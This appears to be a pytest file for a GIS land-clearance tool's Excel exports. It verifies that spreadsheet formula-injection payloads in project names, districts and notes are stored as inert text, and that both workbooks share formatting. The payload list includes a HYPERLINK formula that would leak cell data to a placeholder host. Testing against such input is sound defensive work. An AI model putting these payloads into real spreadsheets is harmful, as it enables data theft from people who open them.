"""The one Excel writer: text from data never becomes a formula, and both workbooks look alike.

Workbooks are built through the real entry points (``gis overlay --xlsx`` and
:func:`gis.products.bulletin.write_bulletin`) from layers whose project names, districts,
leaders and patrol notes carry formula payloads, then re-opened with openpyxl.
"""

from __future__ import annotations

import datetime as dt

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

import mapsdata
from conftest import make_parcels, make_redlines, square
from gis.cli import main
from gis import labels
from gis.products.excel import HEADER_ROW, FORMULA_PREFIXES, Sheet, column_format, display_width, write_workbook
from gis.clearance.pipeline import clearance
from gis.products.bulletin import write_bulletin

#: One payload per prefix OWASP lists (=, +, -, @, tab, CR).
PAYLOADS = ['=HYPERLINK("http://x/?"&A2,"查看")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
AS_OF = dt.date(2026, 11, 21)


def as_stored(text: str) -> str:
    """What a cell can hold: a CR becomes the LF Excel uses for a line break (see gis.products.excel)."""
    return text.replace("\r", "\n")


#: Layers are read with surrounding blanks stripped, so from a layer "\t=1" arrives as "=1";
#: the store's notes and ids keep them.
FROM_LAYERS = sorted({p.strip() for p in PAYLOADS})


@pytest.fixture
def hostile_layers(tmp_path):
    """One project per payload: its name, district, leader and unit are the payload."""
    reds, parcels = [], []
    for i, text in enumerate(PAYLOADS):
        reds.append((f"P{i}", text, square(300 * i, 0, 200),
                     {"name": text, "leader": text, "unit": text, "deadline": pd.Timestamp("2026-01-31")}))
        parcels.append((f"p{i}a", text, "delivered", square(300 * i, 0, 100), {"houses": 1}))
        parcels.append((f"p{i}b", text, "surveyed", square(300 * i + 100, 0, 100), {"houses": 2}))
    red_path, par_path = tmp_path / "redlines.gpkg", tmp_path / "parcels.gpkg"
    make_redlines(reds).to_file(red_path)
    make_parcels(parcels).to_file(par_path)
    return red_path, par_path


def cells(path):
    """Every non-empty cell of every sheet: (sheet, cell)."""
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def assert_inert(path, expected_texts):
    """No formula anywhere; each expected text kept exactly and quote-prefixed."""
    found = cells(path)
    formulas = [(s, c.coordinate, c.value) for s, c in found if c.data_type == "f"]
    assert not formulas, formulas
    texts = [c for _, c in found if isinstance(c.value, str)]
    values = {c.value for c in texts}
    for text in expected_texts:
        assert as_stored(text) in values, text
    risky = [c for c in texts if c.value.startswith(FORMULA_PREFIXES)]
    assert risky and all(c.quotePrefix and c.data_type == "s" for c in risky)


def table(path, sheet):
    """The sheet, its headers and its rows (below the title and note rows)."""
    ws = openpyxl.load_workbook(path)[sheet]
    head = [c.value for c in ws[HEADER_ROW]]
    return ws, head, [dict(zip(head, r)) for r in ws.iter_rows(min_row=HEADER_ROW + 1)]


def test_overlay_workbook_keeps_formula_payloads_as_text(hostile_layers, tmp_path):
    red, par = hostile_layers
    xlsx = tmp_path / "figures.xlsx"
    res = CliRunner().invoke(main, ["overlay", "--redlines", str(red), "--parcels", str(par), "--out",
                                    str(tmp_path / "figures.gpkg"), "--xlsx", str(xlsx), "--as-of", "2026-11-21"])
    assert res.exit_code == 0, res.output
    assert_inert(xlsx, FROM_LAYERS)

    ws, head, rows = table(xlsx, "项目进度")
    assert [r["项目名称"].value for r in rows] == [r["所属区县"].value for r in rows]
    assert {r["项目名称"].value for r in rows} == set(FROM_LAYERS)
    for r in rows:  # numbers stay numbers, rates formatted as percent
        assert r["红线内宗地面积(亩)"].data_type == "n" and r["红线内宗地面积(亩)"].value == pytest.approx(30.0)
        assert r["征地完成率"].value == pytest.approx(0.5) and r["征地完成率"].number_format == "0.0%"
        assert r["是否逾期"].value == "是"
    _, _, dist = table(xlsx, "区县排名")
    assert {r["所属区县"].value for r in dist} == set(FROM_LAYERS)
    assert all(r["排名"].data_type == "n" for r in dist)


def test_bulletin_workbook_keeps_formula_payloads_as_text(hostile_layers, tmp_path):
    red, par = hostile_layers
    c = clearance(red, par, as_of=AS_OF)
    alerts = mapsdata.make_alerts(c, tmp_path / "store")
    alerts["status"], alerts["status_since"] = "new", "2026-10-01"  # every alert waits for a verdict
    alerts["note"] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(alerts))]
    alerts["alert_id"] = [f"{PAYLOADS[k % len(PAYLOADS)]}#{k}" for k in range(len(alerts))]
    xlsx = tmp_path / "bulletin.xlsx"
    write_bulletin(c, tmp_path / "bulletin.html", alerts=alerts, xlsx=xlsx, as_of=AS_OF)
    assert_inert(xlsx, PAYLOADS)

    _, _, waiting = table(xlsx, "超期未核查预警")
    assert waiting and all(r["备注"].value in {as_stored(p) for p in PAYLOADS} for r in waiting)
    assert all(r["面积(亩)"].data_type == "n" for r in waiting)
    _, _, projects = table(xlsx, "项目进度")
    assert {r["项目名称"].value for r in projects} == set(FROM_LAYERS)
    _, _, headline = table(xlsx, "总体情况")
    by = {r["指标"].value: r["数值"] for r in headline}
    assert by["征地完成率"].value == pytest.approx(0.5) and by["征地完成率"].number_format == "0.0%"
    assert by["重点项目个数"].value == len(PAYLOADS) and by["重点项目个数"].data_type == "n"


def test_both_workbooks_share_one_look(small_layers, tmp_path):
    s = small_layers
    figures, bulletin = tmp_path / "f.xlsx", tmp_path / "b.xlsx"
    res = CliRunner().invoke(main, ["overlay", "--redlines", str(s["redlines_path"]), "--parcels",
                                    str(s["parcels_path"]), "--out", str(tmp_path / "f.gpkg"),
                                    "--xlsx", str(figures), "--as-of", "2026-11-21"])
    assert res.exit_code == 0, res.output
    write_bulletin(clearance(s["redlines_path"], s["parcels_path"], as_of=s["as_of"]), tmp_path / "b.html",
                   xlsx=bulletin, as_of=s["as_of"])
    looks = []
    for path in (figures, bulletin):
        ws, head, rows = table(path, "项目进度")
        rate = rows[0]["征地完成率"]
        header = ws.cell(HEADER_ROW, 1)
        looks.append((header.fill.fgColor.rgb, header.font.b, ws.freeze_panes, rate.number_format,
                      {r["是否逾期"].value for r in rows}))
        name_col = ws.column_dimensions[openpyxl.utils.get_column_letter(head.index("项目名称") + 1)]
        assert name_col.width >= display_width("项目名称")  # CJK counted double
    assert looks[0] == looks[1]
    assert looks[0][2:] == (f"B{HEADER_ROW + 1}", "0.0%", {"是", "否"})  # header and title rows frozen


def test_writer_keeps_kinds_and_cleans_what_a_cell_cannot_hold(tmp_path):
    frame = pd.DataFrame({
        "name": ["一二三四五六七八九十", "a\x01b\r\nc", "x" * 40_000],
        "delta_mu": [-1.5, 0.0, 2.25],
        "completion_rate": [-0.25, None, 1.0],
        "overdue": [True, False, pd.NA],
        "deadline": [pd.Timestamp("2026-01-31"), pd.NaT, pd.Timestamp("2026-02-01 08:30")],
    })
    out = write_workbook(tmp_path / "w.xlsx", [Sheet("表", frame, {"name": "名称"})], lang="en")
    ws = openpyxl.load_workbook(out)["表"]
    ws.delete_rows(1, HEADER_ROW - 1)  # the title and note rows: the cells below as they were
    assert [c.value for c in ws[1]] == ["名称", "delta_mu", "completion_rate", "overdue", "deadline"]
    assert ws["B2"].value == -1.5 and ws["B2"].data_type == "n" and ws["B2"].number_format == "0.00"
    assert ws["C2"].value == -0.25 and ws["C2"].number_format == "0.0%" and ws["C3"].value is None
    assert [ws[f"D{i}"].value for i in (2, 3, 4)] == ["yes", "no", None]
    assert ws["E2"].value == dt.datetime(2026, 1, 31) and ws["E2"].number_format == "yyyy-mm-dd"
    assert ws["E3"].value is None and ws["E4"].number_format == "yyyy-mm-dd hh:mm"
    assert ws["A3"].value == "ab\nc" and len(ws["A4"].value) == 32_767
    assert ws.column_dimensions["A"].width == 60 and ws.column_dimensions["B"].width < 12
    assert display_width("一二三四五六七八九十") == 20 and display_width("ab\ncde") == 3


def test_bulletin_workbook_shows_progress_against_time_in_percent(demo_clearance, demo_county, tmp_path):
    """The demo's red lines carry start dates: its 序时进度 sheets show time elapsed and the
    gap (completion minus time elapsed) as percentages, not plain fractions."""
    xlsx = tmp_path / "bulletin.xlsx"
    write_bulletin(demo_clearance, tmp_path / "bulletin.html", xlsx=xlsx, as_of=demo_county.as_of)
    head = labels.HEADERS["zh"]
    _, _, rows = table(xlsx, labels.SHEETS["zh"]["schedule"])
    assert rows
    for r in rows:
        for col in ("time_elapsed", "schedule_gap", "completion_rate"):
            assert r[head[col]].data_type == "n" and r[head[col]].number_format == "0.0%", col
    assert any(r[head["schedule_gap"]].value < 0 for r in rows)  # somebody is behind
    _, _, dist = table(xlsx, labels.SHEETS["zh"]["schedule_districts"])
    assert dist and all(r[head["schedule_gap"]].number_format == "0.0%" for r in dist)
    for col in ("time_elapsed", "schedule_gap", "completion_rate", "clean_land_rate", "progress_ratio"):
        assert column_format(col) == "0.0%"
